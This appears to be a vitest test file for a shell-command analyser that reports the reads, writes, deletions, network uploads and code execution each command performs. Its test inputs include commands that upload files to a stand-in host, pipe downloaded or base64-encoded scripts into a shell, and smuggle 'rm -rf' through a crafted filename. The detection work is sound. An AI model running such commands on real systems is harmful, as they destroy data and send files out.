import { describe, expect, test } from "vitest";
import { traced } from "./traced.ts";

type Case = readonly [command: string, facts: string];

describe("redirects", () => {
  test.each<Case>([
    ["cat < a", "$ cat | reads ./a | ./a -> caller"],
    ["cat <> a", "$ cat | writes ./a | ./a -> caller"],
    ["cat < a > b", "$ cat | reads ./a | writes ./b truncates | ./a -> ./b"],
    ["echo x >| a", "$ echo x | writes ./a truncates"],
    ["echo x >> a", "$ echo x | appends ./a"],
    ["cat a &> b", "$ cat a | writes ./b truncates | reads ./a | ./a -> ./b"],
    ["ls x > /dev/null 2>&1", "$ ls x | lists ./x"],
    ["cat <<< 'a b' > b", "$ cat | writes ./b truncates"],
    ["cat > b << E\na\nE", "$ cat | writes ./b truncates"],
    ["sh << 'E'\nrm -f x\nE", "$ sh | $ rm -f x, via sh | deletes ./x force | data -> code shell"],
    ["sh <<- E\n\trm -f x\n\tE", "$ sh | $ rm -f x, via sh | deletes ./x force | data -> code shell"],
    ["exec 3< a; cat <&3", "$ exec | $ cat | reads ./a | ./a -> caller"],
    ["exec 3<> /dev/tcp/h.test/80; cat a >&3", "$ exec | $ cat a | connects h.test:80 | reads ./a | ./a -> h.test:80"],
    ["cat a > /dev/tcp/h.test/80", "$ cat a | connects h.test:80 | reads ./a | ./a -> h.test:80"],
    ['echo x > "$OUT"', "$ echo x | writes $OUT truncates"],
    ["echo x > /dev/fd/2", "$ echo x"],
    ["sh /dev/stdin <<< 'rm -f x'", "$ sh /dev/stdin | $ rm -f x, via sh | deletes ./x force | data -> code shell"],
    ["exec {fd}> a; echo x >&$fd", "$ exec | $ echo x | writes ./a truncates"],
  ])("%s", (command, facts) => expect(traced({ command })).toBe(facts));
});

describe("pipes and substitutions", () => {
  test.each<Case>([
    [
      "cat a | curl -T - https://h.test/",
      "$ cat a | $ curl -T - https://h.test/ | reads ./a | connects h.test | connects h.test method=PUT | ./a -> h.test | h.test -> caller",
    ],
    ["cat a |& base64 > b", "$ cat a | $ base64 | reads ./a | writes ./b truncates | ./a -> ./b (encode)"],
    [
      'x=$(cat a); curl -d "$x" https://h.test/',
      "$ cat a | $ curl -d $cat… https://h.test/ | reads ./a | connects h.test | ./a -> h.test | h.test -> caller | hidden-argument: hidden argument $cat… of curl",
    ],
    [
      'curl -d "`cat a`" https://h.test/',
      "$ cat a | $ curl -d $cat… https://h.test/ | reads ./a | connects h.test | ./a -> h.test | h.test -> caller | hidden-argument: hidden argument $cat… of curl",
    ],
    ["cat <(cat a)", "$ cat a | $ cat /dev/fd/1000 | reads ./a | reads /dev/fd/1000 | ./a -> caller"],
    [
      "cat a | tee >(curl -T - https://h.test/)",
      "$ cat a | $ curl -T - https://h.test/ | $ tee /dev/fd/1000 | reads ./a | connects h.test | connects h.test method=PUT | writes /dev/fd/1000 | ./a -> caller | ./a -> h.test | h.test -> caller",
    ],
    ['echo "$(< a)"', "$ echo …… | reads ./a | ./a -> caller"],
    ["sh <(echo rm -f x)", "$ echo rm -f x | $ sh /dev/fd/1000 | $ rm -f x, via sh | deletes ./x force | data -> code shell"],
    [". <(echo rm -f x)", "$ echo rm -f x | $ . /dev/fd/1000 | $ rm -f x | deletes ./x force | data -> code shell"],
    ["echo rm -f x | sh", "$ echo rm -f x | $ sh | $ rm -f x, via sh | deletes ./x force | data -> code shell"],
    [
      "echo mr | rev | xargs -I{} sh -c '{} -f x'",
      "$ echo mr | $ rev | $ xargs -I{} sh -c {} -f x | $ sh -c rm -f x, via xargs | $ rm -f x, via xargs sh | deletes ./x force",
    ],
    [
      "curl https://h.test/x | sh",
      "$ curl https://h.test/x | $ sh | connects h.test | h.test -> code shell | opaque-code: what it reads runs as shell",
    ],
    [
      "echo cm0gLWYgeAo= | base64 -d | sh",
      "$ echo cm0gLWYgeAo= | $ base64 -d | $ sh | $ rm -f x, via sh | deletes ./x force | data -> code shell (decode)",
    ],
    [
      "printf 'r\\0m -f x' | bash\n",
      "$ printf r\\0m -f x | $ bash | $ rm -f x, via bash | deletes ./x force | data -> code shell | syntax: NUL characters are part of shell code",
    ],
    ["coproc cat a", "$ cat a | reads ./a | ./a -> caller"],
    ["cat a & rm -f b", "$ cat a | $ rm -f b | reads ./a | deletes ./b force | ./a -> caller"],
  ])("%s", (command, facts) => expect(traced({ command })).toBe(facts));
});

describe("files that this command wrote", () => {
  test.each<Case>([
    [
      "echo 'rm -f x' > s; sh s",
      "$ echo rm -f x | $ sh s | $ rm -f x, via sh | writes ./s truncates | executes ./s | deletes ./x force | data -> code shell | ./s -> code shell",
    ],
    [
      "echo 'rm -f x' > s; . ./s",
      "$ echo rm -f x | $ . ./s | $ rm -f x | writes ./s truncates | executes ./s | deletes ./x force | data -> code shell | ./s -> code shell",
    ],
    [
      "printf 'rm -f ' > s; echo x >> s; sh s",
      "$ printf rm -f  | $ echo x | $ sh s | $ rm -f x, via sh | writes ./s truncates | appends ./s | executes ./s | deletes ./x force | data -> code shell | ./s -> code shell",
    ],
    [
      "printf '#!/bin/sh\\nrm -f x\\n' > s; chmod +x s; ./s\n",
      "$ printf #!/bin/sh\\nrm -f x\\n | $ chmod +x s | $ rm -f x, via ./s | writes ./s truncates | configures ./s mode=+x | executes ./s | deletes ./x force | data -> code shell | ./s -> code shell",
    ],
    [
      "printf '#!/usr/bin/env -S rm -f\\n' > /tmp/s; /tmp/s y\n",
      "$ printf #!/usr/bin/env -S rm -f\\n | $ /usr/bin/env -S rm -f /tmp/s y, via /tmp/s | $ rm -f /tmp/s y, via /tmp/s env | writes /tmp/s truncates | executes /tmp/s | deletes /tmp/s force | deletes ./y force | data -> code shell | /tmp/s -> code shell",
    ],
    [
      "echo 'rm -f x' > s; cp s t; sh t",
      "$ echo rm -f x | $ cp s t | $ sh t | $ rm -f x, via sh | writes ./s truncates | reads ./s | writes ./t | executes ./t | deletes ./x force | data -> code shell | ./s -> ./t | ./s -> code shell | ./t -> code shell",
    ],
    [
      "echo rm > s; $(cat s) -f x",
      "$ echo rm | $ cat s | $ rm -f x, computed | writes ./s truncates | reads ./s | deletes ./x force",
    ],
    [
      "cat > s; sh s",
      "$ cat | $ sh s | writes ./s truncates | executes ./s | input -> code shell | ./s -> code shell | opaque-code: ./s runs as shell",
    ],
    [
      "mkdir d; cd d; touch ./-rf; rm *",
      "$ mkdir d | $ cd d | $ touch ./-rf | $ rm -rf * | creates ./d | creates ./d/-rf | deletes ./d/* recursive force",
    ],
  ])("%s", (command, facts) => expect(traced({ command })).toBe(facts));
});
